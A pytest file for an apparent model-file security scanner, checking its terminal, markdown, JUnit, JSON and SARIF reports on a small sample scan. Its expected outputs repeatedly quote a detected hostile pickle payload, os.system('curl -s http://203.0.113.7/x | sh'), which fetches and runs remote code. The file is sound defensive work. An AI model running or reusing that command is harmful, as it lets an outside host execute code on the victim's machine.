# ruff: noqa: E501 - expected output stands as it is printed
"""What each format says of one small report, and that nothing that was scanned breaks out of it."""

from __future__ import annotations

import json
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest
from inline_snapshot import snapshot

from toadstone.core.finding import Severity
from toadstone.core.place import Place
from toadstone.core.report import Gap, Report, Subject
from toadstone.formats import FORMATS, Envelope, write

SUBSET = json.loads(Path(__file__).with_name("sarif_subset.json").read_text(encoding="utf-8"))


def test_terminal(small):
    assert write(small, "terminal", Envelope(seconds=0.25)) == snapshot("""\
 MALICIOUS  models/a.pkl  (pickle, 120 B)
  critical  unsafe-import: Loading this calls os.system, which can run commands.  (offset 12)
            os.system('curl -s http://203.0.113.7/x | sh')
            reaches 203.0.113.7

 INCOMPLETE  models/c.bin  (zip, 400 B)
  unread    part: 300 bytes not recognised (begins 93 af)

3 files, 2.6 kB in 0.2 s: 1 malicious · 1 incomplete · 1 clean

  do        unsafe-import: Do not load it.
`toadstone explain unsafe-import` tells more. (toadstone 0.1.0, exit code 1)
1 waived finding (--verbose lists them).
""")


def test_terminal_of_a_clean_file(small):
    assert write(Report(small.subjects[1:2]), "terminal", Envelope()) == snapshot("""\
 CLEAN  models/b.safetensors  (safetensors, 2.0 kB)

1 file, 2.0 kB: 1 clean
""")


def test_terminal_of_what_was_not_read(small):
    assert write(Report(small.subjects[2:]), "terminal", Envelope()) == snapshot("""\
 INCOMPLETE  models/c.bin  (zip, 400 B)
  unread    part: 300 bytes not recognised (begins 93 af)

1 file, 400 B: 1 incomplete
Not everything could be read, so nothing here is called clean. (toadstone 0.1.0, exit code 3)
""")


def test_markdown(small):
    assert write(small, "markdown", Envelope()) == snapshot("""\
## toadstone: malicious

3 files looked at, gate `high`, exit code 1.

| severity | check | where | what |
|---|---|---|---|
| critical | `unsafe-import` | `models/a.pkl @12` | Loading this calls os.system, which can run commands. |

`models/a.pkl @12`

```python
os.system('curl -s http://203.0.113.7/x | sh')
```

### Indicators

- 203.0.113.7

### Not read

- `models/c.bin!part @16`: 300 bytes not recognised (begins 93 af)

<sub>toadstone 0.1.0</sub>
""")


def test_junit(small):
    assert write(small, "junit", Envelope()) == snapshot("""\
<?xml version="1.0" encoding="utf-8"?>
<testsuite name="toadstone" tests="3" failures="1" errors="1" time="0.000">
  <testcase classname="toadstone.scan" name="models/a.pkl">
    <failure type="unsafe-import" message="Loading this calls os.system, which can run commands.">critical unsafe-import models/a.pkl @12: Loading this calls os.system, which can run commands.</failure>
  </testcase>
  <testcase classname="toadstone.scan" name="models/b.safetensors" />
  <testcase classname="toadstone.scan" name="models/c.bin">
    <error type="unread" message="300 bytes not recognised (begins 93 af)">models/c.bin!part @16: 300 bytes not recognised (begins 93 af)</error>
  </testcase>
</testsuite>
""")


def test_json(small):
    assert json.loads(write(small, "json", Envelope())) == snapshot(
        {
            "schema": "toadstone.report/1",
            "tool": {"name": "toadstone", "version": "0.1.0"},
            "verdict": "malicious",
            "complete": False,
            "subjects": [
                {
                    "path": "models/a.pkl",
                    "kind": "pickle",
                    "size": 120,
                    "digests": {
                        "sha256": "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                        "blake3": "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                    },
                    "coverage": {"complete": True, "unread": []},
                },
                {
                    "path": "models/b.safetensors",
                    "kind": "safetensors",
                    "size": 2048,
                    "digests": {
                        "sha256": "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
                        "blake3": "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
                    },
                    "coverage": {"complete": True, "unread": []},
                },
                {
                    "path": "models/c.bin",
                    "kind": "zip",
                    "size": 400,
                    "digests": {
                        "sha256": "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc",
                        "blake3": "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc",
                    },
                    "coverage": {
                        "complete": False,
                        "unread": [
                            {
                                "place": {"path": "models/c.bin", "member": "part", "offset": 16},
                                "reason": "300 bytes not recognised (begins 93 af)",
                            }
                        ],
                    },
                },
            ],
            "findings": [
                {
                    "check": "unsafe-import",
                    "severity": "critical",
                    "confidence": "high",
                    "place": {"path": "models/a.pkl", "offset": 12},
                    "message": "Loading this calls os.system, which can run commands.",
                    "evidence": {"code": "os.system('curl -s http://203.0.113.7/x | sh')"},
                    "remedy": "Do not load it.",
                    "indicators": [{"type": "ipv4", "value": "203.0.113.7", "intel": []}],
                    "references": ["CWE-502"],
                }
            ],
            "suppressed": [
                {
                    "check": "hidden-data",
                    "severity": "medium",
                    "confidence": "high",
                    "place": {"path": "models/a.pkl", "offset": 90},
                    "message": "Bytes behind the end.",
                    "evidence": {},
                    "remedy": "Do not load it.",
                    "indicators": [],
                    "references": ["CWE-506"],
                    "reason": "reviewed (until 2027-01-31)",
                }
            ],
        }
    )


def test_sarif_results(small):
    run = json.loads(write(small, "sarif", Envelope()))["runs"][0]
    assert run["results"] == snapshot(
        [
            {
                "ruleId": "unsafe-import",
                "ruleIndex": 1,
                "level": "error",
                "message": {"text": "Loading this calls os.system, which can run commands."},
                "locations": [
                    {
                        "physicalLocation": {
                            "artifactLocation": {"uri": "models/a.pkl"},
                            "region": {"byteOffset": 12, "byteLength": 1},
                        }
                    }
                ],
                "partialFingerprints": {"toadstone/v1": "4b35abf9df1bc466277516ab0e691076"},
                "properties": {
                    "severity": "critical",
                    "confidence": "high",
                    "evidence": {"code": "os.system('curl -s http://203.0.113.7/x | sh')"},
                    "indicators": [{"type": "ipv4", "value": "203.0.113.7", "intel": []}],
                    "remedy": "Do not load it.",
                },
            },
            {
                "ruleId": "hidden-data",
                "ruleIndex": 0,
                "level": "warning",
                "message": {"text": "Bytes behind the end."},
                "locations": [
                    {
                        "physicalLocation": {
                            "artifactLocation": {"uri": "models/a.pkl"},
                            "region": {"byteOffset": 90, "byteLength": 1},
                        }
                    }
                ],
                "partialFingerprints": {"toadstone/v1": "c6015ee55928445e9c29486ddf48dc2b"},
                "properties": {
                    "severity": "medium",
                    "confidence": "high",
                    "evidence": {},
                    "indicators": [],
                    "remedy": "Do not load it.",
                },
                "suppressions": [{"kind": "external", "justification": "reviewed (until 2027-01-31)"}],
            },
        ]
    )
    assert run["invocations"] == snapshot(
        [
            {
                "executionSuccessful": False,
                "exitCode": 1,
                "toolExecutionNotifications": [
                    {
                        "level": "warning",
                        "message": {"text": "Not read: models/c.bin!part @16: 300 bytes not recognised (begins 93 af)"},
                        "locations": [{"physicalLocation": {"artifactLocation": {"uri": "models/c.bin"}}}],
                    }
                ],
            }
        ]
    )


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_ends_with_a_newline_and_is_the_same_twice(small, name):
    text = write(small, name, Envelope())
    assert text.endswith("\n")
    assert text == write(small, name, Envelope())


@pytest.mark.parametrize("name", FORMATS)
def test_an_empty_report(name):
    assert write(Report(()), name, Envelope())


def test_reports_follow_the_schema(small, hostile, root):
    schema = json.loads((root / "docs" / "report.schema.json").read_text(encoding="utf-8"))
    for report in (small, hostile, Report(())):
        jsonschema.Draft202012Validator(schema).validate(json.loads(write(report, "json", Envelope())))


def test_sarif_follows_the_standard(small, hostile):
    validator = jsonschema.Draft202012Validator(SUBSET)
    for report in (small, hostile, Report(())):
        document = json.loads(write(report, "sarif", Envelope()))
        validator.validate(document)
        (run,) = document["runs"]
        rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
        assert rules == sorted(set(rules))
        assert all(rules[result["ruleIndex"]] == result["ruleId"] for result in run["results"])


def test_sarif_of_the_whole_example_follows_the_standard(root):
    from toadstone import scan

    document = json.loads(write(scan(root / "examples" / "project"), "sarif", Envelope()))
    jsonschema.Draft202012Validator(SUBSET).validate(document)
    fingerprints = [result["partialFingerprints"]["toadstone/v1"] for result in document["runs"][0]["results"]]
    assert len(set(fingerprints)) == len(fingerprints)


@pytest.mark.parametrize("name", FORMATS)
def test_nothing_scanned_steers_a_terminal(hostile, name):
    text = write(hostile, name, Envelope())
    controls = {character for character in text if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")} - {
        "\n"
    }
    assert controls == set()


def test_colours_are_the_only_escapes_of_a_terminal(hostile):
    import re

    text = write(hostile, "terminal", Envelope(colour=True, verbose=True))
    assert "\x1b[" in text
    assert not re.sub(r"\x1b\[[0-9;]*m", "", text).count("\x1b")


def test_terminal_lines_fit_a_screen(small, hostile):
    for report in (small, hostile):
        assert max(len(line) for line in write(report, "terminal", Envelope()).splitlines()) <= 160


def test_junit_parses_and_counts(small, hostile):
    suite = ET.fromstring(write(small, "junit", Envelope()))
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors")) == ("3", "1", "1")
    assert [case.get("name") for case in suite] == ["models/a.pkl", "models/b.safetensors", "models/c.bin"]
    broken = ET.fromstring(write(hostile, "junit", Envelope()))
    assert [child.tag for case in broken for child in case] == ["failure", "error"]


def test_junit_follows_the_gate(small):
    assert ET.fromstring(write(Report(small.subjects[:1]), "junit", Envelope(gate=Severity.CRITICAL))).get("failures") == "1"
    lower = Report(tuple(subject for subject in small.subjects if not subject.findings))
    assert ET.fromstring(write(lower, "junit", Envelope())).get("failures") == "0"


def test_markdown_keeps_scanned_text_in_its_cell(hostile):
    text = write(hostile, "markdown", Envelope())
    rows = [line for line in text.splitlines() if line.startswith("| critical")]
    assert len(rows) == 1
    assert not [line for line in text.splitlines() if line.startswith("## heading")]
    assert "<script>" not in rows[0].replace("\\<script\\>", "")
    fences = [line for line in text.splitlines() if line.startswith("```")]
    assert len(fences) == 2
    assert len(fences[0].removesuffix("python")) > 3, "the fence is longer than any run of back quotes inside"


def test_a_remote_file_keeps_its_address_in_sarif():
    path = "hf://owner/name@v1/a b/model.pkl"
    report = Report((Subject(path, "pickle", 3, {}, (Gap(Place(path), "x"),)),))
    text = write(report, "sarif", Envelope())
    assert "hf://owner/name@v1/a%20b/model.pkl" in text
    jsonschema.validate(json.loads(text), SUBSET)


def test_what_a_server_claims_is_shown_as_a_claim():
    origin = {
        "url": "https://hub.example/x",
        "commit": "c" * 40,
        "claimed": {"sha256": "d" * 64},
        "hub": {"status": "safe", "avScan": "safe"},
    }
    report = Report((Subject("hf://owner/name/a", "text", 3, {}, (), (), (), origin),), received=2_000)
    assert write(report, "terminal", Envelope(verbose=True)) == snapshot("""\
 CLEAN  hf://owner/name/a  (text, 3 B)
  claimed   sha256 dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd (not compared: not every byte was read)
  hub says  safe, avScan safe

1 file, 3 B, 2.0 kB fetched: 1 clean
commit cccccccccccccccccccccccccccccccccccccccc
the hub's own scan: 1 safe
""")
